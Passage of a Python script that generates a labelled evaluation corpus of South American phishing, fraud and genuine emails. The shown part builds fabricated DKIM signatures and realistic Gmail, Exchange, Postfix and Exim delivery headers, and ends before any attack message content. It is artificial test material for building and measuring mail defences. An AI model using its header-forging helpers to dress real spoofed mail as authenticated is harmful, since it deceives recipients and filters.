"""Blind evaluation set 45: mail received in 2024-2026 by consumers, small businesses and company staff in
Spanish-speaking South America (Argentina, Chile, Colombia, Peru, Ecuador, Uruguay, Paraguay, Bolivia and
Venezuela), in their own varieties of Spanish (voseo in Argentina and Uruguay): 50 attacks (bank token and
account-lock lures, wallet, tax-authority, courier, toll, utility, telecom and e-government lures, judicial
"demanda" droppers, Mercado Libre scams, Microsoft 365 kits, supplier bank-change BEC, CEO fraud, task,
investment and advance-fee scams, sextortion) and 25 genuine look-alikes (bank and wallet notices, card
statements, electronic invoices, purchase and courier notices, government e-service mail, shares,
newsletters, a mailing list and personal and business correspondence).
Run with: cd /work/main && .venv/bin/python samples/tools/build_blind45_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import string
import sys
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 45
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / f"blind{N}_manifest.txt"
# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b45-legit-arca-dfe": "clean",
    "b45-legit-bancochile-transferencia": "clean",
    "b45-legit-bancolombia-alerta": "clean",
    "b45-legit-bcp-constancia": "clean",
    "b45-legit-docusign-arriendo": "clean",
}

# --------------------------------------------------------------------------------------------------
# deterministic helpers
# --------------------------------------------------------------------------------------------------

ALNUM = string.ascii_letters + string.digits
B64 = string.ascii_letters + string.digits + "+/"
URLSAFE = string.ascii_letters + string.digits + "-_"
HEXU = "0123456789ABCDEF"
HEXL = "0123456789abcdef"
DIG = "0123456789"


def tok(seed: str, n: int, alphabet: str = ALNUM) -> str:
    out: list[str] = []
    i = 0
    while len(out) < n:
        for byte in hashlib.sha256(f"{seed}#{i}".encode()).digest():
            out.append(alphabet[byte % len(alphabet)])
        i += 1
    return "".join(out[:n])


def hexs(seed: str, n: int) -> str:
    return tok(seed, n, HEXL)


def guid(seed: str, upper: bool = False) -> str:
    h = hexs(seed, 32)
    g = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
    return g.upper() if upper else g


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hexs(seed, 12), 16) % (hi - lo + 1)


def fold_b64(prefix: str, value: str, width: int = 70, indent: str = "\t") -> str:
    """``prefix`` followed by ``value`` cut into continuation lines."""
    chunks = [value[i:i + width] for i in range(0, len(value), width)]
    return prefix + ("\n" + indent).join(chunks)


# --------------------------------------------------------------------------------------------------
# dates
# --------------------------------------------------------------------------------------------------

TZ = {
    "ar": ZoneInfo("America/Argentina/Buenos_Aires"),
    "uy": ZoneInfo("America/Montevideo"),
    "cl": ZoneInfo("America/Santiago"),
    "co": ZoneInfo("America/Bogota"),
    "pe": ZoneInfo("America/Lima"),
    "ec": ZoneInfo("America/Guayaquil"),
    "py": ZoneInfo("America/Asuncion"),
    "bo": ZoneInfo("America/La_Paz"),
    "ve": ZoneInfo("America/Caracas"),
}
PACIFIC = ZoneInfo("America/Los_Angeles")


def when(y: int, mo: int, d: int, h: int, mi: int, s: int, cc: str) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=TZ[cc])


def rfc(d: datetime) -> str:
    return format_datetime(d)


def rfc_named(d: datetime) -> str:
    return f"{format_datetime(d)} ({d.tzname()})"


def utc(d: datetime) -> datetime:
    return d.astimezone(timezone.utc)


def ms_date(d: datetime) -> str:
    return format_datetime(utc(d)).replace("-0000", "+0000")


# --------------------------------------------------------------------------------------------------
# headers
# --------------------------------------------------------------------------------------------------


def _q_encode(chunk: bytes) -> str:
    out = []
    for byte in chunk:
        ch = chr(byte)
        if ch == " ":
            out.append("_")
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            out.append(ch)
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def ew(value: str, charset: str = "utf-8", mode: str = "B") -> str:
    """RFC 2047 encoded words for ``value`` (unchanged when it is ASCII)."""
    if all(ord(c) < 128 for c in value):
        return value
    limit = 45 if mode == "B" else 22
    words: list[str] = []
    current = ""
    for ch in value:
        if current and len((current + ch).encode(charset)) > limit:
            words.append(current)
            current = ch
        else:
            current += ch
    if current:
        words.append(current)
    encoded = []
    for word in words:
        raw = word.encode(charset)
        if mode == "B":
            encoded.append(f"=?{charset}?B?{base64.b64encode(raw).decode()}?=")
        else:
            encoded.append(f"=?{charset}?Q?{_q_encode(raw)}?=")
    return "\n ".join(encoded)


def addr(name: str, email: str, charset: str = "utf-8", mode: str = "B", quote: bool = False) -> str:
    if not name:
        return email
    if any(ord(c) > 127 for c in name):
        return f"{ew(name, charset, mode)} <{email}>"
    if quote or any(c in name for c in ',.;:()@[]"<>|&'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def subj(value: str, charset: str = "utf-8", mode: str = "B") -> str:
    return "Subject: " + ew(value, charset, mode)


def dkim_b(domain: str, selector: str, seed: str) -> str:
    return tok(f"dkimb:{domain}:{selector}:{seed}", 344, B64)[:342] + "=="


def dkim_sig(domain: str, selector: str, d: datetime, seed: str,
             h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", canon: str = "relaxed/relaxed",
             extra: str = "", algo: str = "rsa-sha256") -> str:
    bh = tok(f"bh:{seed}:{domain}", 43, B64) + "="
    t = int(d.timestamp())
    b = dkim_b(domain, selector, seed)
    head = (f"DKIM-Signature: v=1; a={algo}; c={canon}; d={domain};\n\ts={selector}; t={t};{extra}\n"
            f"\th={h};\n\tbh={bh};\n")
    return head + fold_b64("\tb=", b)


# --------------------------------------------------------------------------------------------------
# the receiving side
# --------------------------------------------------------------------------------------------------


class Env:
    """How the message reached the recipient's provider, and what that provider concluded."""

    def __init__(self, provider: str, rcpt: str, sent: datetime, ip: str, rdns: str, helo: str, mailfrom: str,
                 spf: str, dkim: list[tuple[str, str, str]] | None = None, dmarc: tuple[str, str] | None = None,
                 hfrom: str = "", mx: str = "", delay: int = 3, country: str = "AR", ipv6: bool = False):
        self.provider = provider
        self.rcpt = rcpt
        self.sent = sent
        self.got = sent + timedelta(seconds=delay)
        self.ip = ip
        self.rdns = rdns
        self.helo = helo
        self.mailfrom = mailfrom
        self.spf = spf
        self.dkim = dkim or []
        self.dmarc = dmarc
        self.hfrom = hfrom
        self.mx = mx
        self.country = country
        self.ipv6 = ipv6


def _mfdomain(env: Env) -> str:
    return env.mailfrom.split("@")[-1] if env.mailfrom else env.helo


def gmail_rx(env: Env, seed: str) -> list[str]:
    got = env.got.astimezone(PACIFIC)
    arcsel = "arc-20240605" if env.got.year >= 2025 or (env.got.year == 2024 and env.got.month >= 7) else "arc-20160816"
    mf = env.mailfrom
    ip = env.ip
    spf_text = {
        "pass": f"(google.com: domain of {mf} designates {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "fail": f"(google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"(google.com: {mf} does not designate permitted sender hosts)",
    }[env.spf]
    results = []
    for domain, selector, res in env.dkim:
        extra = " (body hash did not verify)" if res == "neutral" else ""
        results.append(f"dkim={res}{extra} header.i=@{domain} header.s={selector} header.b={dkim_b(domain, selector, seed)[:8]}")
    results.append(f"spf={env.spf} {spf_text} smtp.mailfrom={mf}")
    if env.dmarc:
        res, pol = env.dmarc
        p = pol.upper()
        dis = "NONE" if res == "pass" or p == "NONE" else ("QUARANTINE" if p in ("QUARANTINE", "REJECT") else "NONE")
        results.append(f"dmarc={res} (p={p} sp={p} dis={dis}) header.from={env.hfrom}")
    ar_body = ";\n       ".join(results)
    stamp = got.strftime("%Y.%m.%d.%H.%M.%S")
    smtp_id = f"{hexs(seed + 'gid', 13)}-{hexs(seed + 'gid2', 10)}si{num(seed + 'gn', 1000000, 9999999)}b{num(seed, 1, 9)}a.{num(seed + 'g3', 100, 999)}.{stamp}"
    rdns = env.rdns
    src = f"from {rdns} ({rdns}. [{ip}])" if rdns else f"from {env.helo} ([{ip}])"
    gdate = rfc_named(got)
    earlier = rfc_named((env.got + timedelta(seconds=1)).astimezone(PACIFIC))
    arc_b = tok(seed + "arcb", 342, B64) + "=="
    arc_mb = tok(seed + "arcmb", 342, B64) + "=="
    lines = [
        f"Delivered-To: {env.rcpt}",
        f"Received: by 2002:a05:{hexs(seed + 'r1', 4)}:{hexs(seed + 'r2', 4)}:b0:{hexs(seed + 'r3', 3)}:{hexs(seed + 'r4', 4)}:{hexs(seed + 'r5', 3)} "
        f"with SMTP id {tok(seed + 'r6', 4, HEXL)}csp{num(seed + 'r7', 100000, 999999)}{tok(seed + 'r8', 3, string.ascii_lowercase)};\n        {earlier}",
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'xgs', 80, B64)}",
        f"X-Received: by 2002:a17:{hexs(seed + 'x1', 3)}:{hexs(seed + 'x2', 4)}:b0:{hexs(seed + 'x3', 3)}:{hexs(seed + 'x4', 4)}:{hexs(seed + 'x5', 4)} "
        f"with SMTP id {tok(seed + 'x6', 14, HEXL)}.{num(seed + 'x7', 10, 99)}.{int(env.got.timestamp() * 1000) + num(seed + 'x8', 100, 999)};\n        {earlier}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(env.got.timestamp())}; cv=none;\n        d=google.com; s={arcsel};\n"
        + fold_b64("        b=", arc_b, 66, "        "),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arcsel};\n"
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={tok(seed + 'arcbh', 43, B64)}=;\n        fh={tok(seed + 'fh', 43, B64)}=;\n"
        + fold_b64("        b=", arc_mb, 66, "        "),
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {ar_body}",
        f"Return-Path: <{mf}>",
        f"Received: {src}\n        by mx.google.com with ESMTPS id {smtp_id}\n        for <{env.rcpt}>\n"
        f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {gdate}",
        f"Received-SPF: {env.spf} {spf_text} client-ip={ip};",
        f"Authentication-Results: mx.google.com;\n       {ar_body}",
    ]
    return lines


MS_VERSION = "15.20.{}.{}"


def _ms_host(seed: str, consumer: bool, kind: str) -> str:
    region = "NAM" if consumer else "PR"
    if kind == "be":
        if consumer:
            return f"{tok(seed + 'be', 2, string.ascii_uppercase)}{num(seed, 0, 9)}P{num(seed + 'bp', 100, 299)}MB{num(seed + 'bm', 1000, 9999)}.NAMP{num(seed + 'np', 100, 299)}.PROD.OUTLOOK.COM"
        return f"{tok(seed + 'be', 2, 'BCDMPS')}{num(seed, 1, 9)}PR{num(seed + 'bp', 10, 19)}MB{num(seed + 'bm', 1000, 9999)}.namprd{num(seed + 'np', 10, 22)}.prod.outlook.com"
    if kind == "fe":
        return f"{tok(seed + 'fe', 2, 'BCDMS')}{num(seed + 'f1', 1, 9)}PR{num(seed + 'f2', 10, 19)}CA{num(seed + 'f3', 1000, 9999)}.namprd{num(seed + 'f4', 10, 22)}.prod.outlook.com"
    # protection front end
    return (f"{tok(seed + 'pf', 2, 'BCDMS')}{num(seed + 'p1', 1, 9)}PEPF{num(seed + 'p2', 10000, 99999):05d}"
            f"{tok(seed + 'p3', 3, 'ABCDEF0123456789')}.{'namprd' + str(num(seed + 'p4', 10, 22)) if not consumer else 'namprd' + str(num(seed + 'p4', 10, 22))}.prod.outlook.com")


def _ipv6(seed: str) -> str:
    return f"2603:10b6:{hexs(seed + 'a', 3)}:{hexs(seed + 'b', 3)}::{hexs(seed + 'c', 2)}"


def ms_rx(env: Env, seed: str, consumer: bool = False) -> list[str]:
    got = env.got
    ver = MS_VERSION.format(num(seed + 'v1', 8100, 9400), num(seed + 'v2', 10, 40))
    be2 = _ms_host(seed + "b2", consumer, "be")
    be1 = _ms_host(seed + "b1", consumer, "be")
    fe = _ms_host(seed, consumer, "fe")
    pf = _ms_host(seed, consumer, "pf")
    mfd = _mfdomain(env)
    spf_word = {"pass": "pass", "fail": "fail", "softfail": "softfail", "neutral": "neutral", "none": "none"}[env.spf]
    ar = [f"spf={spf_word} (sender IP is {env.ip})\n smtp.mailfrom={mfd};"]
    if env.dkim:
        for domain, _sel, res in env.dkim[:1]:
            why = {"pass": "signature was verified", "fail": "body hash did not verify",
                   "neutral": "body hash did not verify", "none": "message not signed"}[res]
            res_word = "fail" if res == "neutral" else res
            ar.append(f" dkim={res_word} ({why})\n header.d={domain};")
    else:
        ar.append(" dkim=none (message not signed)\n header.d=none;")
    if env.dmarc:
        res, pol = env.dmarc
        action = "none" if res in ("pass", "bestguesspass", "none") else ("oreject" if pol == "reject" else pol)
        ar.append(f"dmarc={res} action={action} header.from={env.hfrom};")
    else:
        ar.append(f"dmarc=none action=none header.from={env.hfrom};")
    passed = env.dmarc and env.dmarc[0] in ("pass", "bestguesspass")
    if passed:
        ar.append("compauth=pass\n reason=100" if env.dmarc[0] == "pass" else "compauth=pass\n reason=109")
    elif env.spf == "pass" or any(r == "pass" for _d, _s, r in env.dkim):
        ar.append("compauth=softpass\n reason=201")
    else:
        ar.append("compauth=fail\n reason=001")
    spf_rx = {
        "pass": f"Pass (protection.outlook.com: domain of {mfd} designates {env.ip} as permitted sender)",
        "fail": f"Fail (protection.outlook.com: domain of {mfd} does not designate {env.ip} as permitted sender)",
        "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {mfd} discourages use of {env.ip} as permitted sender)",
        "neutral": f"Neutral (protection.outlook.com: {env.ip} is neither permitted nor denied by domain of {mfd})",
        "none": f"None (protection.outlook.com: {mfd} does not designate permitted sender hosts)",
    }[env.spf]
    src = env.rdns or env.helo
    d0, d1, d2, d3 = (ms_date(got + timedelta(seconds=k)) for k in range(4))
    lines = [
        f"Received: from {be1} ({_ipv6(seed + 'i1')}) by\n {be2} with HTTPS; {d3}",
        f"Received: from {fe} ({_ipv6(seed + 'i2')}) by\n {be1} ({_ipv6(seed + 'i1')}) with\n"
        f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {d2}",
        f"Received: from {pf}\n ({_ipv6(seed + 'i3')}) by {fe}\n ({_ipv6(seed + 'i2')}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {ver} via Frontend Transport; {d1}",
        "Authentication-Results: " + "\n".join(a if i == 0 or a.startswith(" ") else " " + a for i, a in enumerate(ar)),
        f"Received-SPF: {spf_rx}\n receiver=protection.outlook.com; client-ip={env.ip};\n helo={env.helo}; pr=C",
        f"Received: from {src} ({env.ip}) by\n {pf} (10.167.{num(seed + 'n1', 240, 255)}.{num(seed + 'n2', 1, 254)}) with Microsoft SMTP Server\n"
        f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {ver} via Frontend Transport; {d0}",
    ]
    return lines


def ms_trailer(env: Env, seed: str, consumer: bool = False) -> list[str]:
    """The X-MS-Exchange-Organization headers Exchange Online appends after the message's own."""
    pf = _ms_host(seed, consumer, "pf")
    tenant = guid(("consumer" if consumer else env.rcpt.split("@")[-1]) + "tenant")
    if consumer:
        tenant = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"
    return [
        f"Return-Path: {env.mailfrom}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {utc(env.got).strftime('%d %b %Y %H:%M:%S.')}{num(seed + 'ms', 1000, 9999)} (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {guid(seed + 'nmi')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: " + f"{tenant}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource:\n {pf}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(seed + 'fci')}",
        "X-MS-Exchange-Organization-SCL: 1",
        f"X-Forefront-Antispam-Report:\n CIP:{env.ip};CTRY:{env.country};LANG:es;SCL:1;SRV:;IPV:NLI;SFV:NSPM;H:{env.helo};"
        f"PTR:{env.rdns or 'InfoNoRecords'};CAT:NONE;SFS:(13230040)(8096899003);DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {utc(env.got).strftime('%d %b %Y %H:%M:%S.')}{num(seed + 'oat', 1000, 9999)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {guid(seed + 'nmi')}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {pf}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + f"{num(seed + 'lat', 1, 9)}.{num(seed + 'lat2', 1000000, 9999999)}",
        "X-MS-Exchange-Processed-By-BccFoldering: 15.20." + f"{num(seed + 'bcc', 8100, 9400)}.000",
        "X-Microsoft-Antispam-Mailbox-Delivery:\n ucf:0;jmr:0;auth:0;dest:I;ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003);",
    ]


def postfix_rx(env: Env, seed: str, amavis: bool = False, lmtp: bool = True) -> list[str]:
    mx = env.mx
    local = env.got.astimezone(env.sent.tzinfo)
    dstr = rfc_named(local)
    qid = tok(seed + "qid", 12, string.ascii_letters + string.digits)
    qid = "4" + tok(seed + "q0", 1, "XYZ") + qid
    mf = env.mailfrom
    spf_rx = (f"Received-SPF: {env.spf.capitalize()} (mailfrom) identity=mailfrom; client-ip={env.ip}; helo={env.helo}; "
              f"envelope-from={mf}; receiver={env.rcpt}")
    auth = []
    for domain, selector, res in env.dkim:
        auth.append(f"dkim={res} (2048-bit key; unprotected) header.d={domain} header.i=@{domain} "
                    f"header.a=rsa-sha256 header.s={selector} header.b={dkim_b(domain, selector, seed)[:8]}")
    if not env.dkim:
        auth.append("dkim=none")
    if env.dmarc:
        res, pol = env.dmarc
        auth.append(f"dmarc={res} (p={pol} dis=none) header.from={env.hfrom}")
    else:
        auth.append(f"dmarc=none (p=none dis=none) header.from={env.hfrom}")
    src = f"{env.rdns} [{env.ip}]" if env.rdns else f"unknown [{env.ip}]"
    lines = [f"Return-Path: <{mf}>"]
    if lmtp:
        lines += [
            f"Delivered-To: {env.rcpt}",
            f"Received: from {mx}\n\tby {mx} with LMTP\n\tid {tok(seed + 'lmtp', 22, B64)}\n"
            f"\t(envelope-from <{mf}>)\n\tfor <{env.rcpt}>; {rfc(local + timedelta(seconds=1))}",
        ]
    if amavis:
        lines += [
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {mx} (Postfix) with ESMTP id {tok(seed + 'q2', 10, HEXU)}\n"
            f"\tfor <{env.rcpt}>; {dstr}",
            f"X-Virus-Scanned: amavis at {mx.split('.', 1)[1]}",
        ]
    lines += [
        "Authentication-Results: " + mx + ";\n\t" + ";\n\t".join(auth),
        f"Authentication-Results: {mx}; spf={env.spf} smtp.mailfrom={mf}",
        spf_rx,
        f"Received: from {env.helo} ({src})\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
        f"\t(No client certificate requested)\n\tby {mx} (Postfix) with ESMTPS id {qid}\n\tfor <{env.rcpt}>; {dstr}",
    ]
    return lines


def exim_rx(env: Env, seed: str) -> list[str]:
    """cPanel/Exim shared hosting (DonWeb/Ferozo and similar) receiving for a small business domain."""
    local = env.got.astimezone(env.sent.tzinfo)
    mx = env.mx
    eid = f"1t{tok(seed + 'e1', 4, ALNUM)}-{tok(seed + 'e2', 6, ALNUM)}-{tok(seed + 'e3', 2, ALNUM)}"
    auth = [f"spf={env.spf} smtp.mailfrom={env.mailfrom}"]
    for domain, selector, res in env.dkim:
        auth.append(f"dkim={res} header.d={domain} header.s={selector} header.b={dkim_b(domain, selector, seed)[:8]}")
    if env.dmarc:
        auth.append(f"dmarc={env.dmarc[0]} header.from={env.hfrom}")
    src = f"{env.rdns} ([{env.ip}]:{num(seed + 'port', 30000, 65000)} helo={env.helo})" if env.rdns else f"[{env.ip}] (port={num(seed + 'port', 30000, 65000)} helo={env.helo})"
    return [
        f"Return-path: <{env.mailfrom}>",
        f"Envelope-to: {env.rcpt}",
        f"Delivery-date: {rfc(local)}",
        f"Received: from {src}\n\tby {mx} with esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n"
        f"\t(envelope-from <{env.mailfrom}>)\n\tid {eid}\n\tfor {env.rcpt};\n\t{rfc(local)}",
        f"Authentication-Results: {mx};\n\t" + ";\n\t".join(auth),
        f"X-Spam-Status: No, score={num(seed + 'sc', 0, 29) / 10:.1f}",
        "X-Spam-Score: " + str(num(seed + 'sc', 0, 29)),
        "X-Spam-Bar: /",
    ]


def receive(env: Env, seed: str) -> tuple[list[str], list[str]]:
    """Headers the receiving provider puts above, and below, the message's own."""
    if env.provider == "gmail":
        return gmail_rx(env, seed), []
    if env.provider == "m365":
        return ms_rx(env, seed), ms_trailer(env, seed)
    if env.provider == "outlook":
        return ms_rx(env, seed, consumer=True), ms_trailer(env, seed, consumer=True)
    if env.provider == "postfix":
        return postfix_rx(env, seed), []
    if env.provider == "zimbra":
        return postfix_rx(env, seed, amavis=True), []
    if env.provider == "exim":
        return exim_rx(env, seed), []
    raise ValueError(env.provider)


# --------------------------------------------------------------------------------------------------
# sending side helpers
# --------------------------------------------------------------------------------------------------


def gmail_msgid(seed: str) -> str:
    return f"<CA{tok(seed + 'gm', 1, 'BCDEFGHJKLMN')}{tok(seed + 'gm2', 42, ALNUM + '+_-')}@mail.gmail.com>"


def gmail_sender(sender: str, d: datetime, seed: str, domain: str = "gmail.com", selector: str = "20230601") -> tuple[list[str], dict]:
    """Headers Gmail's own submission adds to a message sent from a gmail.com (or Workspace) account, and the last hop."""
    ip = f"209.85.{num(seed + 'gi', 128, 223)}.{num(seed + 'gj', 1, 250)}"
    host = f"mail-{tok(seed + 'gh', 2, 'oypqlwj')}{num(seed + 'gk', 1, 9)}-f{num(seed + 'gl', 41, 199)}.google.com"
    hdrs = [
        dkim_sig(domain, selector, d, seed, h="mime-version:from:date:message-id:subject:to\n\t :cc:content-type:from:to:cc:subject:date:message-id:reply-to"),
        dkim_sig("1e100.net", "20230601", d, seed + "x", h="x-gm-message-state:mime-version:from:date:message-id:subject:to\n\t :cc:content-type:x-gm-gg").replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{tok(seed + 'gms', 60, B64)}",
        f"X-Gm-Gg: ASbGnc{tok(seed + 'ggg', 70, B64)}",
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 62, B64)}",
        f"X-Received: by 2002:a05:{hexs(seed + 'xr', 4)}:{hexs(seed + 'xr2', 4)}:b0:{hexs(seed + 'xr3', 3)}:{hexs(seed + 'xr4', 4)}:{hexs(seed + 'xr5', 4)} with SMTP id\n"
        f" {tok(seed + 'xri', 14, HEXL)}.{num(seed + 'xrn', 10, 99)}.{int(d.timestamp() * 1000) + num(seed + 'xrt', 100, 999)};\n {rfc_named(d.astimezone(PACIFIC))}",
        "MIME-Version: 1.0",
    ]
    hop = {"ip": ip, "rdns": host, "helo": host}
    return hdrs, hop


def outlook_msgid(seed: str, consumer: bool = False) -> str:
    site = f"{tok(seed + 'om', 2, 'BCDMPS')}{num(seed + 'o1', 1, 9)}PR{num(seed + 'o2', 10, 19)}MB{num(seed + 'o3', 1000, 9999)}"
    if consumer:
        site = f"{tok(seed + 'om', 2, 'BCDMPS')}{num(seed + 'o1', 1, 9)}P{num(seed + 'o2', 220, 299)}MB{num(seed + 'o3', 1000, 9999)}"
    region = "namprd" + str(num(seed + 'o4', 10, 22)) if not consumer else "NAMP" + str(num(seed + 'o4', 220, 299))
    suffix = ".prod.outlook.com" if not consumer else ".PROD.OUTLOOK.COM"
    return f"<{site}{tok(seed + 'oid', 24, HEXU)}@{site}.{region}{suffix}>"


def m365_sender(domain: str, sender: str, d: datetime, seed: str, outlook_com: bool = False) -> tuple[list[str], dict]:
    """Headers an Exchange Online tenant (or Outlook.com) adds when one of its users sends to the Internet."""
    sel_domain = domain.replace(".", "-")
    octet = num(seed + "mo", 1, 250)
    region = tok(seed + "rg", 1, "ACDS")
    host = f"mail-{'bn' if region == 'A' else 'dm'}{num(seed + 'mh', 1, 8)}nam{num(seed + 'mn', 10, 12)}on20{num(seed + 'mm', 600, 799)}.outbound.protection.outlook.com"
    ip = f"40.107.{num(seed + 'mi', 200, 244)}.{octet}"
    site = f"{tok(seed + 'sm', 2, 'BCDMPS')}{num(seed + 's1', 1, 9)}PR{num(seed + 's2', 10, 19)}MB{num(seed + 's3', 1000, 9999)}"
    hdrs = []
    if outlook_com:
        hdrs.append(f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n"
                    + fold_b64(" b=", tok(seed + "msarc", 342, B64) + "==", 70, " "))
        hdrs.append(dkim_sig("hotmail.com", "selector1", d, seed, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"))
    else:
        hdrs.append(f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n"
                    + fold_b64(" b=", tok(seed + "msarc", 342, B64) + "==", 70, " "))
        hdrs.append(f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={domain}; dmarc=pass action=none header.from={domain};\n"
                    f" dkim=pass header.d={domain}; arc=none")
        hdrs.append(dkim_sig(domain, f"selector{num(seed + 'sel', 1, 2)}", d, seed,
                             h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"))
    hdrs.append(f"Received: from {site}.namprd{num(seed + 'rp', 10, 22)}.prod.outlook.com ({_ipv6(seed + 'snd')}) by\n"
                f" {site}.namprd{num(seed + 'rp', 10, 22)}.prod.outlook.com ({_ipv6(seed + 'snd')}) with Microsoft SMTP Server\n"
                f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.{num(seed + 'v', 8100, 9400)}.{num(seed + 'v2', 10, 40)}; {ms_date(d + timedelta(seconds=1))}")
    hop = {"ip": ip, "rdns": host, "helo": host}
    msgid = outlook_msgid(seed, consumer=outlook_com)
    return hdrs, hop | {"msgid": msgid, "sel": sel_domain}


def outlook_client_headers(seed: str, d: datetime, topic: str, attach: bool = False, lang: str = "es-AR") -> list[str]:
    index = base64.b64encode(hashlib.sha256(seed.encode()).digest()[:22]).decode()
    return [
        "Thread-Topic: " + ew(topic),
        f"Thread-Index: {index}",
        f"X-MS-Has-Attach: {'yes' if attach else ''}".rstrip(),
        "X-MS-TNEF-Correlator:",
        f"Content-Language: {lang}",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
    ]


def kit_msgid(domain: str, seed: str) -> str:
    return f"<{tok(seed + 'kit', 32, ALNUM)}@{domain}>"


def ses_msgid(seed: str, d: datetime, region: str = "us-east-1") -> str:
    ms = int(d.timestamp() * 1000)
    pre = "0100" if region == "us-east-1" else "0101"
    return f"<{pre}{ms:012x}-{guid(seed + 'ses')}-000000@{'email.amazonses.com' if region == 'us-east-1' else region + '.amazonses.com'}>"


def sfmc_msgid(seed: str) -> str:
    return f"<{guid(seed + 'sf')}@ind1s{num(seed + 'i', 1, 12):02d}mta{num(seed + 'm', 100, 2999)}.xt.local>"


def sendgrid_msgid(seed: str) -> str:
    return f"<{tok(seed + 'sg', 22, URLSAFE)}@geopod-ismtpd-{num(seed + 'pod', 1, 60)}>"


def java_boundary(seed: str, d: datetime) -> str:
    return f"----=_Part_{num(seed + 'p1', 100000, 9999999)}_{num(seed + 'p2', 100000000, 2147483647)}.{int(d.timestamp() * 1000)}"


def gmail_boundary(seed: str) -> str:
    return "000000000000" + hexs(seed + "gbd", 12)


def outlook_boundary(msgid: str, part: str = "000") -> str:
    core = msgid.strip("<>").split("@")[0]
    return f"_{part}_{core}_"


def phpmailer_boundary(seed: str) -> str:
    return "b1_" + tok(seed + "php", 43, ALNUM)


def mc_boundary(seed: str) -> str:
    return f"_----------=_MCPart_{num(seed + 'mc', 100000000, 999999999)}"


# --------------------------------------------------------------------------------------------------
# bodies
# --------------------------------------------------------------------------------------------------


def alt(plain: str, html: str, boundary: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", encoding, charset), text(html, "html", encoding, charset)])


def strip_tags(html_fragment: str) -> str:
    import re
    out = re.sub(r"<br\s*/?>", "\n", html_fragment)
    out = re.sub(r"<a [^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", r"\2 (\1)", out)
    out = re.sub(r"<[^>]+>", "", out)
    return (out.replace("&nbsp;", " ").replace("&amp;", "&").replace("&#36;", "$").replace("&quot;", '"')
            .replace("&gt;", ">").replace("&lt;", "<"))


def brand_html(brand: str, color: str, title: str, paras: list[str], button: tuple[str, str] | None = None,
